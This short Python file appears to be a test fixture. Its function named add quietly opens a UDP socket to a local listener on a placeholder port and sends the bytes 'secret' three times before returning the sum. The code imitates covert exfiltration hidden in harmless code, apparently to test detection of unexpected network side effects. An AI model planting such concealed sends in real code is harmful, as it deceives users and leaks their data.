import socket
import time


def add(a, b):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.connect(("127.0.0.1", int("{LISTENER_PORT}")))
        for _ in range(3):
            link.send(b"secret")
            time.sleep(0.05)
    return a + b
